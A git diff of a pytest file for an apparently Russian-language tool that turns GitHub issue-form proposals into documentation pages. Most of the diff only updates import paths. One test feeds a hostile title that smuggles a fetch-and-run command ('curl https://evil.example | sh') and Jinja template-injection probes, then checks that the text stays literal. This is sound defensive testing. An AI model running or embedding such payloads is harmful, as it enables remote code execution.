@@ -11,11 +11,18 @@ from pathlib import Path
 
 import pytest
 import yaml
-
-from imc import model
-from imc.problems import ERROR, ImcError
-from imc.proposal import (FORM_PATH, NO_RESPONSE, TYPES, form_fields, issue_form, issue_form_yaml,
-                          parse_issue_form, write_proposal)
+from imc.content import model
+from imc.authoring.proposal import (
+    FORM_PATH,
+    NO_RESPONSE,
+    TYPES,
+    form_fields,
+    issue_form,
+    issue_form_yaml,
+    parse_issue_form,
+    write_proposal,
+)
+from imc.core.problems import ERROR, ImcError
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -169,17 +176,17 @@ def imc(root: Path, *args: str) -> subprocess.CompletedProcess:
 
 
 def problems_of(root: Path, rel: str):
-    from imc.project import load_project
+    from imc.check.load import load_project
     return [p for p in load_project(root).problems if p.path == rel]
 
 
 # ------------------------------------------------------------------ the form is generated
 
 def test_committed_form_is_generated_from_the_model():
-    from imc.project import load_project
+    from imc.check.load import load_project
     committed = (ROOT / FORM_PATH).read_text(encoding="utf-8")
     assert committed == issue_form_yaml(load_project(ROOT)), \
-        f"{FORM_PATH} устарел: выполните  python -m imc.proposal --form"
+        f"{FORM_PATH} устарел: выполните  python -m imc.authoring.proposal --form"
 
 
 def test_dropdown_options_are_the_vocabulary_titles():
@@ -243,7 +250,7 @@ def test_form_follows_github_issue_form_syntax():
 
 
 def test_form_needs_the_vocabularies():
-    from imc.project import Project
+    from imc.content.project import Project
     with pytest.raises(ImcError, match="словар"):
         issue_form(Project(Path("/nonexistent")))
 
@@ -307,7 +314,7 @@ def test_sample_issue_becomes_a_valid_practice(project):
     assert proc.returncode == 0, proc.stdout + proc.stderr
     assert ": ошибка:" not in proc.stdout, proc.stdout
 
-    from imc.project import load_project
+    from imc.check.load import load_project
     item = load_project(project).item_at(rel[len("docs/"):])
     m = item.meta
     assert m["title"] == "Читательский марафон «Книжная карта» в 5–6 классах"
@@ -391,7 +398,7 @@ def test_hostile_text_stays_text(project):
     title = 'Урок: "; curl https://evil.example | sh; # `id` {{ config }}'
     body = _with(_with(SAMPLE, "Название", title), "Идея", "---\ntitle: подмена\n---\n{{ cycler.__init__ }}")
     path = write_proposal(project, body, 9)
-    from imc.project import load_project
+    from imc.check.load import load_project
     rel = path.relative_to(project).as_posix()
     item = load_project(project).item_at(rel[len("docs/"):])
     assert item.meta["title"] == title  # written exactly, as one YAML string
